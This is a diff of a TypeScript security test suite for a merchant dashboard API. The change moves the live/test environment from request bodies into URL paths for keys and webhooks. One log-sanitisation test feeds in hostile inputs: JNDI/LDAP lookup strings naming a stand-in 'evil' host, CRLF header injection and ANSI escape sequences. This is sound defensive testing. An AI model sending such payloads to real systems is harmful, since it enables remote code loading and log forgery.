@@ -64,8 +64,8 @@ const web = (at: string, init: { body: BodyInit; headers?: Record<string, string
   });
 
 describe('D-05 in the next request', () => {
-  const keys = () => `/stores/${storeId}/keys`;
-  const key = { environment: 'test', name: 'Till' };
+  const keys = () => `/stores/${storeId}/test/keys`;
+  const key = { name: 'Till' };
 
   test('D-05: a role that was taken or changed is gone', async () => {
     const developer = await accounts.user({ hasTotp: true });
@@ -153,7 +153,7 @@ test('D-11: a link in a mail is of the service’s own address, whatever host a 
 
 describe('what touches keys, hooks, limits and money', () => {
   const limits = { session_limit: 1, day_limit: 2, refund_day_limit: 3, refund_window_days: 30 };
-  const hook = { environment: 'live', url: 'http://127.0.0.1:9/hook' };
+  const hook = { url: 'http://127.0.0.1:9/hook' };
   const loose = { requires_signature_v2: false };
   test.each<[string, 'merchant' | 'operator', string, object, string | null]>([
     ['takes the second factor away', 'merchant', '/account/totp/remove', {}, 'account.totp_removed'],
@@ -168,9 +168,15 @@ describe('what touches keys, hooks, limits and money', () => {
       { current: PASSWORD, password: 'a new good one' },
       'account.password',
     ],
-    ['makes a live key', 'merchant', '/stores/{store}/keys', { environment: 'live', name: 'Till' }, 'key.create'],
-    ['lets a key take signature version 1', 'merchant', '/stores/{store}/keys/{key}/signature', loose, 'key.change'],
-    ['sets where webhooks go', 'merchant', '/stores/{store}/webhook', hook, 'webhook.set'],
+    ['makes a live key', 'merchant', '/stores/{store}/live/keys', { name: 'Till' }, 'key.create'],
+    [
+      'lets a key take signature version 1',
+      'merchant',
+      '/stores/{store}/test/keys/{key}/signature',
+      loose,
+      'key.change',
+    ],
+    ['sets where webhooks go', 'merchant', '/stores/{store}/live/webhook', hook, 'webhook.set'],
     ['raises a limit', 'operator', '/operator/stores/{store}/limits', { version: 1, ...limits }, 'store.limits'],
     // There is no such refund: who has just shown both gets as far as that.
     [
@@ -212,10 +218,8 @@ describe('what touches keys, hooks, limits and money', () => {
 
 test('D-18: a secret is sealed where it is kept, and a key is known by its last four characters', async () => {
   const cookie = await cookieFor(owner);
-  const key = (await ask(cookie, 'POST', `/stores/${storeId}/keys`, { environment: 'live', name: 'Till' })).body;
-  const hook = (
-    await ask(cookie, 'POST', `/stores/${storeId}/webhook`, { environment: 'live', url: 'http://127.0.0.1:9/' })
-  ).body;
+  const key = (await ask(cookie, 'POST', `/stores/${storeId}/live/keys`, { name: 'Till' })).body;
+  const hook = (await ask(cookie, 'POST', `/stores/${storeId}/live/webhook`, { url: 'http://127.0.0.1:9/' })).body;
   const { rows } = await accounts.database.pool.query(
     `SELECT k.key_hint, encode(k.secret_ciphertext, 'escape') AS key, encode(e.secret_ciphertext, 'escape') AS hook
      FROM api_keys k JOIN webhook_endpoints e ON e.store_id = k.store_id WHERE k.id = $1`,
@@ -250,9 +254,9 @@ test('D-19: a password of a megabyte is refused before it is read', async () => 
 test('D-20: what browsers and proxies say of themselves stays one line of visible text in the log and its file', async () => {
   const request = browserRequest(accounts.context, {
     method: 'POST',
-    path: `/api/dashboard/stores/${storeId}/keys`,
+    path: `/api/dashboard/stores/${storeId}/test/keys`,
     cookie: await cookieFor(owner),
-    body: { environment: 'test', name: '${jndi:ldap://x} =1' },
+    body: { name: '${jndi:ldap://x} =1' },
     headers: { 'user-agent': '\u001b[31mred\r\nx: y ${jndi:ldap://evil}', 'x-forwarded-for': '1.2.3.4\r\nevil' },
   });
   const evil = { ...request, address: '203.0.113.9\r\n{"number":"1"}\u001b[2J' };
